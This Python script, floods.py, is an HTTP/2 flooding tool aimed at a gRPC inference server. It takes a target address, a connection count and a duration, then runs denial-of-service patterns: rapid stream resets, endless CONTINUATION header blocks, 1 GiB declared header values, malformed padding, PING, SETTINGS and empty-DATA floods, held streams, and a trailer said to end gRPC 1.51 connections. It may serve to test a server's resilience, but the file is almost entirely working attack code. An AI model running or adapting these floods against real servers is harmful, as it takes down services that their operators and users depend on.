"""Floods: connections whose client is none, at full speed, over and over.

Usage: floods.py NAME CONNECTIONS ADDRESS SECONDS FILE [CERTIFICATE]

CERTIFICATE: the authority's of a server with TLS. FILE gets, as JSON, what was sent
and what came back.
"""

import contextlib
import itertools
import json
import socket
import sys
import threading
import time

import trust
from http2_frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
                          PREFACE, RST_STREAM, SETTINGS, fields, header_block,
                          MODEL_INFER)

STREAM_INFER = MODEL_INFER.replace("ModelInfer", "ModelStreamInfer")
PADDED = 8
PIECE = 1000  # frames that are sent at once
CANCEL = (8).to_bytes(4, "big")


def frame(kind, flags, stream, body=b""):
    return (len(body).to_bytes(3, "big") + bytes([kind, flags]) +
            stream.to_bytes(4, "big") + body)


def streams():
    """Yields the numbers of a client's streams, a piece of them at a time."""
    first = 1
    while True:
        yield range(first, first + 2 * PIECE, 2)
        first += 2 * PIECE


def acknowledge():
    """Acknowledges the server's settings, once they have come."""
    time.sleep(0.1)
    yield b""
    yield frame(SETTINGS, ACK, 0)


def length(size):
    """The length of a long string of HPACK (RFC 7541, 5.1)."""
    rest, written = size - 127, bytes([127])
    while rest >= 128:
        written += bytes([rest % 128 + 128])
        rest //= 128
    return written + bytes([rest])


def reset(number, head):
    """A stream that is begun and reset."""
    return (frame(HEADERS, END_HEADERS, number, head) +
            frame(RST_STREAM, 0, number, CANCEL))


# --- what a connection sends after its preface, in pieces, without an end ---

def resets(head=header_block(MODEL_INFER)):
    """Streams that are begun and reset."""
    yield from acknowledge()
    for numbers in streams():
        yield b"".join(reset(number, head) for number in numbers)


def stream_resets():
    """The same of ModelStreamInfer, which a proxy passes on at once."""
    yield from resets(header_block(STREAM_INFER))


def empty_calls(head=header_block(MODEL_INFER)):
    """Calls that end without a message."""
    for numbers in streams():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                       for number in numbers)


def early_acknowledgement(head=header_block(MODEL_INFER)):
    """The same, by a client that acknowledges settings before they have come: gRPC
    holds it to no maximum of streams."""
    yield frame(SETTINGS, ACK, 0)
    yield from empty_calls(head)


def wrong_trailers():
    """Calls that wait, and one whose trailer gRPC 1.51 ends their connection for."""
    yield from acknowledge()
    head = header_block(STREAM_INFER)
    for numbers in streams():
        for number in numbers:
            yield frame(HEADERS, END_HEADERS, number, head)
            if number % 20 == 1:
                yield frame(HEADERS, END_HEADERS | END_STREAM, number,
                            fields([("x-bin", "no base64!")]))
                yield b""


def long_value():
    """A header's value that is declared 1 GiB long, and comes slowly."""
    yield frame(HEADERS, 0, 1, header_block(MODEL_INFER) + b"\x00\x01x" +
                length(1 << 30))
    while True:
        yield frame(CONTINUATION, 0, 1, b"x" * 16000)
        time.sleep(0.1)


def endless_block():
    """A block of headers that does not end."""
    yield frame(HEADERS, 0, 1, header_block(MODEL_INFER))
    numbers = itertools.count()
    while True:
        yield frame(CONTINUATION, 0, 1, b"".join(
            b"\x00\x08x%07d\x03abc" % next(numbers) for _ in range(1000)))


def indexed_fields():
    """A block of a field that one byte stands for."""
    yield frame(HEADERS, 0, 1, header_block(MODEL_INFER) + b"\x40\x01y\x7f\x81\x1e" +
                b"z" * 4000)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\xbe" * 16000)


def padded_block():
    """A value that is declared long where the padding should be: gRPC reads it."""
    yield frame(HEADERS, END_HEADERS | PADDED, 1, b"\x0c" +
                header_block(MODEL_INFER) + b"\x00\x01x\x7f\xff\xff\xff\xff\x07yyy")
    while True:
        yield frame(CONTINUATION, PADDED, 1, b"x" * 16000)


def hidden_streams():
    """Calls without a message, behind a number that no other is past."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 0x80000000 | 1,
                header_block(MODEL_INFER))
    yield from empty_calls()


def pings():
    """PING without a pause."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * PIECE


def settings():
    """SETTINGS without a pause."""
    while True:
        yield frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") * PIECE


def empty_data():
    """DATA without a byte."""
    yield frame(HEADERS, END_HEADERS, 1, header_block(MODEL_INFER))
    while True:
        yield frame(DATA, 0, 1) * PIECE


def idle_streams():
    """250 calls that are begun, and nothing else."""
    head = header_block(MODEL_INFER)
    yield b"".join(frame(HEADERS, END_HEADERS, number, head)
                   for number in range(1, 501, 2))
    while True:
        time.sleep(0.5)
        yield b""


def held_metadata():
    """250 calls with a header of 1,000 kB that are begun, and nothing else."""
    yield from acknowledge()
    value = b"v" * 16_000
    for number in range(1, 501, 2):
        yield frame(HEADERS, 0, number, header_block(MODEL_INFER) +
                    b"\x00\x01x" + length(1_000_000))
        yield frame(CONTINUATION, 0, number, value) * 62
        yield frame(CONTINUATION, END_HEADERS, number, value[:8_000])
    while True:
        time.sleep(0.5)
        yield b""


def silence():
    """Half of a preface."""
    while True:
        time.sleep(0.5)
        yield b""


class Flood:
    """`with` sends what `pieces` yields over `connections` at once, each begun
    anew `pause_s` after it has ended. `wrap`: makes TLS of a socket. `source`: the
    address that it comes from."""

    def __init__(self, address, pieces, connections=1, wrap=None, pause_s=0.05,
                 source=""):
        host, port = address.rsplit(":", 1)
        self._address = (host, int(port))
        self._source = (source, 0)
        self._pieces = pieces
        self._wrap = wrap or (lambda plain: plain)
        self._pause_s = pause_s
        self._ends = threading.Event()
        self.begun = 0
        self.connected = 0
        self.ended = 0  # by the server
        self.sent = 0  # bytes
        self._threads = [threading.Thread(target=self._run, daemon=True)
                         for _ in range(connections)]

    def _run(self):
        while not self._ends.is_set():
            self.begun += 1
            try:
                with socket.create_connection(self._address, 5,
                                              self._source) as plain:
                    self.connected += 1
                    with contextlib.closing(self._wrap(plain)) as peer:
                        self._send(peer)
            except OSError:
                self.ended += 1
                self._ends.wait(self._pause_s)

    def _send(self, peer):
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for piece in self._pieces():
            if self._ends.is_set():
                return
            if piece:
                peer.sendall(piece)
                self.sent += len(piece)
            else:
                peer.settimeout(0.01)
                try:
                    while (got := peer.recv(1 << 16)):
                        pass
                    if not got:
                        raise ConnectionError("it was ended")
                except TimeoutError:
                    pass
                finally:
                    peer.settimeout(5)

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._ends.set()
        for thread in self._threads:
            thread.join(10)


def main(name, connections, address, seconds, path, certificate=None):
    wrap = trust.wrapper(certificate) if certificate else None
    with Flood(address, globals()[name], int(connections), wrap) as flood:
        time.sleep(float(seconds))
    with open(path, "w", encoding="utf-8") as file:
        json.dump({"sent": {"connections": flood.begun, "bytes": flood.sent},
                   "back": {"connections ended": flood.ended}}, file)


if __name__ == "__main__":
    main(*sys.argv[1:])
